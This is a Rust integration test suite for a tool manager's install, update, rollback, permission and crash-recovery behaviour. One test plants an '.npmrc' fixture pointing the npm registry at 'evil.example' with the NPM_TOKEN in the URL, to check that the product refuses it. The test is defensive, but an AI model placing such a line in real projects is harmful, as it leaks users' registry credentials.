//! Tools that come, change and go, through the whole product.

#![allow(
    clippy::unwrap_used,
    clippy::disallowed_methods,
    reason = "a test fails by panicking, and makes tools"
)]

mod common;

use common::registry::Registry;
use common::{Home, said, zip};
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;
use wire::{Client, ToolInstall, ToolPreview, ToolRef, ToolSource, ToolVersionRef};

/// A tool that says its version and counts its runs; `more` are other members.
fn source(version: &str, more: &str) -> String {
    format!(
        "export default {{
            getMetadata: () => ({{ name: 'T', version: '{version}', description: 'counts' }}),
            {more}
            async execute() {{
                const count = ((await this.api.storage.getItem('count')) ?? 0) + 1;
                await this.api.storage.setItem('count', count);
                return `{version} ${{count}}`;
            }}
        }}"
    )
}

const ASKS: &str = "getRuntimeConfig: () => ({ networkAccess: { hosts: ['example.com'] }, processes: true }),
    getSchema: () => ({ environment: { type: 'object', properties: { API_KEY: { type: 'string', description: 'k' } } } }),";

fn folder(home: &Home, name: &str, text: &str) -> PathBuf {
    let folder = home.outside(name);
    std::fs::write(folder.join("t.tool.js"), text).unwrap();
    folder
}

fn ok(output: &Output) -> Value {
    assert!(output.status.success(), "{output:?}");
    said(output)
}

/// Runs a verb that gives JSON.
fn pm(home: &Home, args: &[&str]) -> Value {
    ok(&home.pm(&[args, &["--json"]].concat()))
}

fn refused(home: &Home, args: &[&str], code: &str) {
    let output = home.pm(&[args, &["--json"]].concat());
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(text.contains(code), "{code}: {text}");
}

/// Versions of `t` that there are to go back to, newest first.
fn kept(home: &Home) -> Vec<Value> {
    let versions = pm(home, &["tool", "versions", "t"]);
    let versions = versions["versions"].as_array().unwrap().iter();
    versions.map(|one| one["version"].clone()).collect()
}

fn run(home: &Home) -> Value {
    pm(home, &["tool", "run", "t"])["result"].clone()
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// Nothing of a change is left.
fn is_clean(home: &Home) -> bool {
    let changes = home.path().join("toolbox/.changes");
    !changes.exists() || std::fs::read_dir(changes).unwrap().count() == 0
}

#[test]
fn a_tool_comes_is_updated_goes_back_and_goes() {
    let home = Home::new();
    let _served = home.serve();
    let one = zip(&home, "t-1.zip", &[("t/t.tool.js", &source("1.0.0", ""))]);
    let preview = pm(&home, &["tool", "install", text(&one), "--dry-run"]);
    assert_eq!(
        (&preview["tool"], &preview["kind"]),
        (&json!("t"), &json!("archive"))
    );
    assert_eq!(preview["permissions"], json!([]));
    assert!(
        !home.path().join("toolbox/t").exists(),
        "looked at, and nothing else"
    );
    assert!(is_clean(&home));
    pm(&home, &["tool", "install", text(&one)]);
    assert_eq!(run(&home), "1.0.0 1");
    assert!(home.pm(&["tool", "configure", "t", "MINE=1"]).status.success());
    refused(&home, &["tool", "install", text(&one)], "tool_exists");

    let two = folder(&home, "two", &source("2.0.0", ""));
    let updated = pm(&home, &["tool", "update", "t", text(&two)]);
    assert_eq!(
        (&updated["before"], &updated["version"]),
        (&json!("1.0.0"), &json!("2.0.0"))
    );
    assert_eq!(run(&home), "2.0.0 2", "its data stayed");
    let env = std::fs::read_to_string(home.path().join("toolbox/t/.env")).unwrap();
    assert!(env.contains("MINE=1"), "{env}");
    // Where it came from is known: what is there now comes.
    std::fs::write(two.join("t.tool.js"), source("2.1.0", "")).unwrap();
    assert_eq!(pm(&home, &["tool", "update", "t"])["version"], "2.1.0");
    assert_eq!(run(&home), "2.1.0 3");

    assert_eq!(kept(&home), ["2.0.0", "1.0.0"]);
    assert_eq!(pm(&home, &["tool", "rollback", "t", "1.0.0"])["version"], "1.0.0");
    assert_eq!(run(&home), "1.0.0 4");
    assert_eq!(
        pm(&home, &["tool", "rollback", "t"])["version"],
        "2.1.0",
        "the one before"
    );
    refused(&home, &["tool", "rollback", "t", "9.9.9"], "tool_version_unknown");

    let removed = pm(&home, &["tool", "remove", "t"]);
    assert!(!home.path().join("toolbox/t").exists());
    refused(&home, &["tool", "show", "t"], "unknown_tool");
    let trash = pm(&home, &["tool", "removed"]);
    assert_eq!(trash["tools"][0]["id"], removed["id"]);
    pm(&home, &["tool", "restore", "t"]);
    assert_eq!(run(&home), "2.1.0 5");
    assert_eq!(pm(&home, &["tool", "removed"])["tools"], json!([]));

    pm(&home, &["tool", "remove", "t", "--keep-data"]);
    refused(&home, &["tool", "show", "t"], "unknown_tool");
    pm(&home, &["tool", "install", text(&one)]);
    assert_eq!(run(&home), "1.0.0 6", "what stayed is there for whatever comes");
    assert!(is_clean(&home));
}

#[test]
fn versions_beyond_those_to_keep_go() {
    let home = Home::new();
    std::fs::create_dir_all(home.path()).unwrap();
    let settings = json!({"retention": {"toolVersions": 2}});
    std::fs::write(home.path().join("settings.json"), settings.to_string()).unwrap();
    let _served = home.serve();
    let place = folder(&home, "place", &source("1.0.0", ""));
    pm(&home, &["tool", "install", text(&place)]);
    for version in ["1.1.0", "1.2.0", "1.3.0", "1.4.0"] {
        std::fs::write(place.join("t.tool.js"), source(version, "")).unwrap();
        pm(&home, &["tool", "update", "t"]);
    }
    assert_eq!(kept(&home), ["1.3.0", "1.2.0"]);
    let entries = std::fs::read_dir(home.path().join("backups/tools/t"))
        .unwrap()
        .count();
    assert_eq!(entries, 2);
}

#[test]
fn what_is_asked_for_is_given_once_and_what_is_more_is_asked_again() {
    let home = Home::new();
    let _served = home.serve();
    let place = folder(&home, "place", &source("1.0.0", ASKS));
    let preview = pm(&home, &["tool", "install", text(&place), "--dry-run"]);
    let permission = |kind: &str, value: &str, granted: bool, added: bool| json!({"kind": kind, "value": value, "granted": granted, "added": added});
    let asked = json!([
        permission("network", "example.com", false, true),
        permission("processes", "", false, true),
    ]);
    assert_eq!(preview["permissions"], asked);
    assert_eq!(preview["secrets"], json!(["API_KEY"]));
    pm(&home, &["tool", "install", text(&place), "--allow"]);
    let grants = || pm(&home, &["tool", "grant", "t"]);
    assert_eq!(grants()["network"]["effective"], json!(["example.com"]));
    assert_eq!(grants()["processes"]["effective"], true);

    // The same rights for other code: given already. One host more: asked for.
    let more = ASKS.replace("'example.com'", "'example.com', 'example.org'");
    std::fs::write(place.join("t.tool.js"), source("1.1.0", &more)).unwrap();
    let preview = pm(&home, &["tool", "update", "t", "--dry-run"]);
    let asked = json!([
        permission("network", "example.com", true, false),
        permission("network", "example.org", false, true),
        permission("processes", "", true, false),
    ]);
    assert_eq!(preview["permissions"], asked);
    assert_eq!(
        preview["changes"],
        json!([{"path": "t.tool.js", "what": "changed"}])
    );
    pm(&home, &["tool", "update", "t"]);
    assert_eq!(
        grants()["network"]["effective"],
        json!(["example.com"]),
        "what grew waits"
    );
    pm(&home, &["tool", "update", "t", "--allow"]);
    assert_eq!(
        grants()["network"]["effective"],
        json!(["example.com", "example.org"])
    );
    // Back to code that was given less: it has what it had.
    pm(&home, &["tool", "rollback", "t", "1.0.0"]);
    assert_eq!(grants()["network"]["effective"], json!(["example.com"]));
    assert_eq!(grants()["processes"]["effective"], true);
}

/// What it is said to ask for, and whether it has that.
fn given(preview: &Value) -> Vec<(String, bool)> {
    let asked = preview["permissions"].as_array().unwrap().iter();
    asked
        .map(|one| {
            (
                format!(
                    "{} {}",
                    one["kind"].as_str().unwrap(),
                    one["value"].as_str().unwrap()
                ),
                one["granted"].as_bool().unwrap(),
            )
        })
        .collect()
}

#[test]
fn rights_pass_on_only_where_they_are_asked_for_and_within_one_source() {
    let home = Home::new();
    let _served = home.serve();
    let place = folder(&home, "place", &source("1.0.0", ASKS));
    let look = |args: &[&str]| {
        given(&pm(
            &home,
            &[&["tool", "update", "t", "--dry-run"], args].concat(),
        ))
    };
    let asked = |granted| {
        vec![
            ("network example.com".to_owned(), granted),
            ("processes ".to_owned(), granted),
        ]
    };
    let has = || {
        let grants = pm(&home, &["tool", "grant", "t"]);
        (
            grants["network"]["effective"].clone(),
            grants["processes"]["effective"].clone(),
        )
    };
    let (all, nothing) = ((json!(["example.com"]), json!(true)), (json!([]), json!(false)));
    pm(&home, &["tool", "install", text(&place), "--allow"]);
    assert_eq!(has(), all);
    assert_eq!(look(&[]), asked(true));

    // The same name from elsewhere is another's work.
    let other = folder(&home, "other", &source("1.1.0", ASKS));
    assert_eq!(look(&[text(&other)]), asked(false));
    pm(&home, &["tool", "update", "t", text(&other)]);
    assert_eq!(has(), nothing);

    // What a version does not ask for is gone when a later one asks for it again.
    pm(&home, &["tool", "update", "t", "--allow"]);
    assert_eq!(has(), all);
    std::fs::write(other.join("t.tool.js"), source("1.2.0", "")).unwrap();
    pm(&home, &["tool", "update", "t"]);
    std::fs::write(other.join("t.tool.js"), source("1.3.0", ASKS)).unwrap();
    assert_eq!(look(&[]), asked(false));
    pm(&home, &["tool", "update", "t"]);
    assert_eq!(has(), nothing);

    // What was revoked since does not come back with a version that had it.
    pm(&home, &["tool", "update", "t", "--allow"]);
    std::fs::write(other.join("t.tool.js"), source("1.4.0", ASKS)).unwrap();
    pm(&home, &["tool", "update", "t"]);
    assert_eq!(has(), all);
    pm(&home, &["tool", "revoke", "t", "--process"]);
    pm(&home, &["tool", "rollback", "t", "1.3.0"]);
    assert_eq!(has(), (json!(["example.com"]), json!(false)));
}

#[test]
fn what_a_removed_tool_left_is_announced_and_part_of_what_is_approved() {
    let home = Home::new();
    let served = home.serve();
    let place = folder(&home, "place", &source("1.0.0", ""));
    let look = || pm(&home, &["tool", "install", text(&place), "--dry-run"]);
    let bare = look();
    assert_eq!(bare["inherits"], json!([]));
    pm(&home, &["tool", "install", text(&place)]);
    assert_eq!(run(&home), "1.0.0 1");
    assert!(home.pm(&["tool", "configure", "t", "MINE=1"]).status.success());
    assert_eq!(look()["inherits"], json!([]), "an update is given nothing new");
    pm(&home, &["tool", "remove", "t", "--keep-data"]);

    let preview = look();
    let inherits = preview["inherits"].as_array().unwrap();
    assert!(
        inherits.contains(&json!(".env")) && inherits.contains(&json!("data")),
        "{inherits:?}"
    );
    let said = home.pm(&["tool", "install", text(&place), "--dry-run"]);
    let said = String::from_utf8_lossy(&said.stdout).into_owned();
    assert!(said.contains("is given what a removed t left: .env"), "{said}");
    assert_ne!(preview["digest"], bare["digest"]);
    let install = |digest: &Value| {
        let params = ToolInstall {
            source: text(&place).to_owned(),
            tool: "t".into(),
            digest: digest.as_str().unwrap().to_owned(),
            replace: false,
            allow: Vec::new(),
            run: Option::None,
        };
        common::runtime().block_on(served.client.tool_install(params))
    };
    match install(&bare["digest"]).unwrap_err() {
        wire::ClientError::Call(error) => assert_eq!(error.code, "tool_source_changed"),
        other => panic!("{other:?}"),
    }
    install(&preview["digest"]).unwrap();
    assert_eq!(run(&home), "1.0.0 2");
    assert_eq!(look()["installed"], json!({"version": "1.0.0", "same": true}));
}

#[test]
fn packages_of_the_manifest_are_shown_and_where_they_come_from_stays_the_persons() {
    let home = Home::new();
    let _served = home.serve();
    let declares = "getDependencies: () => ({ 'declared': '^1.0.0' }),";
    let wants = r#"{"dependencies": {"hidden": "^2.0.0"}, "optionalDependencies": {"maybe": "3"}}"#;
    let evil = "registry=https://evil.example/${NPM_TOKEN}";
    let main = source("2.0.0", declares);
    let brings = [
        ("t.tool.js", main.as_str()),
        ("package.json", wants),
        ("package-lock.json", "{}"),
        (".npmrc", evil),
    ];
    let two = zip(&home, "t-2.zip", &brings);
    let comes = |name: &str, range: &str| json!({"name": name, "after": range});
    let packages = json!([
        comes("declared", "^1.0.0"),
        comes("hidden", "^2.0.0"),
        comes("maybe", "3")
    ]);
    let fresh = pm(&home, &["tool", "install", text(&two), "--dry-run"]);
    assert_eq!(fresh["dependencies"], packages);
    assert_eq!(fresh["leftOut"], json!([".npmrc"]));

    let place = folder(&home, "place", &source("1.0.0", ""));
    pm(&home, &["tool", "install", text(&place)]);
    let update = pm(&home, &["tool", "update", "t", text(&two), "--dry-run"]);
    assert_eq!(update["dependencies"], packages);
    let changed = |path: &str, what: &str| json!({"path": path, "what": what});
    let changes = json!([
        changed("package-lock.json", "added"),
        changed("package.json", "changed"),
        changed("t.tool.js", "changed"),
    ]);
    assert_eq!(update["changes"], changes);

    // Her own settings stay, whether it brings a manifest or not.
    let npmrc = home.path().join("toolbox/t/.npmrc");
    std::fs::write(&npmrc, "registry=https://mine.example/").unwrap();
    let main = source("3.0.0", "");
    let three = zip(
        &home,
        "t-3.zip",
        &[("t.tool.js", &main), ("package.json", "{}"), (".npmrc", evil)],
    );
    pm(&home, &["tool", "update", "t", text(&three)]);
    assert_eq!(run(&home), "3.0.0 1");
    assert_eq!(
        std::fs::read_to_string(&npmrc).unwrap(),
        "registry=https://mine.example/"
    );
}

#[test]
fn only_what_was_looked_at_comes_and_only_a_person_takes_in() {
    let home = Home::new();
    let served = home.serve();
    let place = folder(&home, "place", &source("1.0.0", ASKS));
    let client = &served.client;
    let look = || -> ToolPreview {
        let source = Some(text(&place).to_owned());
        let params = ToolSource {
            source,
            tool: Option::None,
        };
        common::runtime().block_on(client.tool_preview(params)).unwrap()
    };
    let seen = look();
    let wanted = |digest: &str, tool: &str| ToolInstall {
        source: seen.source.clone(),
        tool: tool.to_owned(),
        digest: digest.to_owned(),
        replace: false,
        allow: Vec::new(),
        run: Option::None,
    };
    let refused = |params: ToolInstall| {
        let failed = common::runtime()
            .block_on(client.tool_install(params))
            .unwrap_err();
        match failed {
            wire::ClientError::Call(error) => error.code,
            other => panic!("{other:?}"),
        }
    };
    std::fs::write(place.join("t.tool.js"), source("1.0.0", "")).unwrap();
    assert_eq!(refused(wanted(&seen.digest, "t")), "tool_source_changed");
    assert_eq!(refused(wanted(&seen.digest, "other")), "tool_source_of_another");
    let digest = look().digest;
    let mut more = wanted(&digest, "t");
    more.allow = seen
        .permissions
        .iter()
        .map(|asked| asked.permission.clone())
        .collect();
    assert_eq!(refused(more), "tool_permission_not_asked");
    assert!(!home.path().join("toolbox/t").exists());
    assert!(is_clean(&home));
    common::runtime()
        .block_on(client.tool_install(wanted(&digest, "t")))
        .unwrap();

    for call in [
        "tool.preview",
        "tool.install",
        "tool.rollback",
        "tool.remove",
        "tool.restore",
        "tool.new",
    ] {
        let info = wire::CALLS.iter().find(|info| info.name == call).unwrap();
        assert_eq!(info.access, wire::Access::Ui, "{call} is no client's");
    }
}

#[test]
fn what_cannot_be_described_or_is_ours_does_not_come() {
    let home = Home::new();
    let _served = home.serve();
    let broken = folder(&home, "broken", "export default {");
    refused(&home, &["tool", "install", text(&broken)], "tool_broken");
    let empty = folder(&home, "empty", "export default { getMetadata: () => ({}) }");
    refused(&home, &["tool", "install", text(&empty)], "tool_without_execute");
    let ours = home.outside("ours");
    std::fs::write(ours.join("todolist.tool.js"), source("1.0.0", "")).unwrap();
    refused(&home, &["tool", "install", text(&ours)], "tool_is_built_in");
    refused(&home, &["tool", "remove", "todolist"], "tool_is_built_in");
    refused(&home, &["tool", "install", "/nowhere"], "tool_source_missing");
    let needs = "getDependencies: () => ({ 'lib.js': 'local' }),";
    let lacking = folder(&home, "lacking", &source("1.0.0", needs));
    refused(&home, &["tool", "install", text(&lacking)], "local_file_missing");
    assert!(!home.path().join("toolbox/t").exists());
    assert!(is_clean(&home));
}

#[test]
fn an_update_that_does_not_work_in_its_place_is_taken_back() {
    let home = Home::new();
    let _served = home.serve();
    let place = folder(&home, "place", &source("1.0.0", ASKS));
    pm(&home, &["tool", "install", text(&place), "--allow"]);
    assert_eq!(run(&home), "1.0.0 1");
    // Beside the toolbox there are no data that it stumbles over.
    let stumbles = format!(
        "import {{ existsSync }} from 'node:fs';
        if (existsSync(new URL('./data/storage.json', import.meta.url))) throw new Error('old data');
        {}",
        source("2.0.0", ASKS)
    );
    std::fs::write(place.join("t.tool.js"), stumbles).unwrap();
    refused(&home, &["tool", "update", "t"], "tool_taken_back");
    assert_eq!(run(&home), "1.0.0 2");
    assert_eq!(
        pm(&home, &["tool", "grant", "t"])["processes"]["effective"],
        true,
        "as it was"
    );
    assert_eq!(pm(&home, &["tool", "versions", "t"])["versions"], json!([]));
    assert!(is_clean(&home));
}

#[test]
fn a_package_is_a_tool_with_its_own_packages() {
    let registry = Registry::start();
    registry.add("p", "1.0.0", json!({}), "module.exports = 'p one';");
    let main = "import p from 'p'; export default { getDependencies: () => ({ p: '^1.0.0' }), execute() { return p; } }";
    registry.add_files("tool-t", "1.0.0", json!({}), &[("t.tool.js", main)]);
    let home = Home::new();
    let mut command = home.command(&["tool", "install", "npm:tool-t@^1", "--json"]);
    command.env("npm_config_registry", registry.address());
    let installed = ok(&command.output().unwrap());
    assert_eq!(installed["tool"], "t");
    let asked = registry.asked();
    assert_eq!(run(&home), "p one", "its packages came with it");
    assert_eq!(registry.asked(), asked);
    let versions = pm(&home, &["tool", "versions", "t"]);
    assert_eq!(versions["source"], "npm:tool-t@^1");
}

#[test]
fn a_new_tool_works_and_can_be_taken_in_elsewhere() {
    let home = Home::new();
    let _served = home.serve();
    let made = pm(&home, &["tool", "new", "hello-you"]);
    refused(&home, &["tool", "new", "hello-you"], "tool_exists");
    refused(&home, &["tool", "new", "No Name"], "invalid_tool_name");
    let greeted = pm(
        &home,
        &[
            "tool",
            "run",
            "hello-you",
            "--params",
            r#"{"name": "Ada", "language": "fr"}"#,
        ],
    );
    assert_eq!(
        greeted["result"],
        json!({"greeting": "Bonjour, Ada!", "count": 1})
    );
    let failed = home.pm(&["tool", "run", "hello-you", "--params", r#"{"name": " "}"#]);
    let help = String::from_utf8_lossy(&failed.stderr).into_owned();
    assert!(
        help.contains("NAME_EMPTY") || help.contains("at least one letter"),
        "{help}"
    );
    let shown = pm(&home, &["tool", "show", "hello-you"]);
    assert_eq!(shown["warnings"], json!([]), "nothing is wrong with it");
    let other = Home::new();
    pm(&other, &["tool", "install", made["folder"].as_str().unwrap()]);
}

/// What a kill left, before the next owner mends it.
fn moment(home: &Home) -> &'static str {
    let changes = home.path().join("toolbox/.changes");
    let folders = std::fs::read_dir(changes).into_iter().flatten().flatten();
    let found: Vec<PathBuf> = folders.map(|entry| entry.path()).collect();
    match found.as_slice() {
        [] => "no change under way",
        [change] if change.join("change.json").exists() => "exchanging",
        [change] if change.join("tool").exists() => "made beside",
        _ => "being unpacked",
    }
}

#[test]
fn a_killed_owner_leaves_the_old_or_the_new_version_whole() {
    const ROUNDS: u64 = 60;
    let home = Home::new();
    let lib = |version: &str| format!("export const version = '{version}';");
    let with_lib = |version: &str| {
        format!(
            "import {{ version }} from './lib.js'; if (version !== '{version}') throw new Error('mixed');\n{}",
            source(version, "")
        )
    };
    let sources: BTreeMap<&str, PathBuf> = ["1.0.0", "2.0.0"]
        .into_iter()
        .map(|version| {
            let place = folder(&home, version, &with_lib(version));
            std::fs::write(place.join("lib.js"), lib(version)).unwrap();
            (version, place)
        })
        .collect();
    pm(&home, &["tool", "install", text(&sources["1.0.0"])]);
    let mut histogram: BTreeMap<&str, u32> = BTreeMap::new();
    let (mut seed, mut runs) = (0x2545_f491_u64, 0);
    let runtime = tokio::runtime::Runtime::new().unwrap();
    for round in 0..ROUNDS {
        let mut served = home.serve();
        let shown = runtime
            .block_on(served.client.tool_show(ToolRef { tool: "t".into() }))
            .unwrap();
        let before = shown.row.version;
        let other = if before == "1.0.0" { "2.0.0" } else { "1.0.0" };
        let client = served.client.clone();
        let source = text(&sources[other]).to_owned();
        let work = runtime.spawn(async move { change(client, source, round).await });
        seed = seed
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        // The moment is the point: it is drawn, not waited for.
        std::thread::sleep(Duration::from_micros((seed >> 33) % 400_000));
        served.kill();
        let _ = runtime.block_on(work).unwrap();
        *histogram.entry(moment(&home)).or_default() += 1;
        let _served = home.serve();
        assert!(is_clean(&home), "round {round}");
        runs += 1;
        let now = run(&home);
        let expected = [format!("{before} {runs}"), format!("{other} {runs}")];
        assert!(
            expected.iter().any(|one| now == *one),
            "round {round}: {now} is none of {expected:?}"
        );
    }
    println!("moments hit in {ROUNDS} kills: {histogram:#?}");
    assert!(histogram.len() >= 2, "{histogram:?}");
}

/// An update; every third time the way back to a version that is kept.
async fn change(client: Client, source: String, round: u64) -> Result<(), wire::ClientError> {
    let tool = "t".to_owned();
    if round % 3 == 2 {
        let versions = client.tool_versions(ToolRef { tool: tool.clone() }).await?;
        let found = versions.versions.first().map(|version| version.id.clone());
        let id = found.unwrap_or_default();
        client.tool_rollback(ToolVersionRef { tool, id }).await?;
        return Ok(());
    }
    let params = ToolSource {
        source: Some(source),
        tool: Some(tool),
    };
    let seen = client.tool_preview(params).await?;
    let params = ToolInstall {
        source: seen.source,
        tool: seen.tool,
        digest: seen.digest,
        replace: true,
        allow: Vec::new(),
        run: Option::None,
    };
    client.tool_install(params).await?;
    Ok(())
}
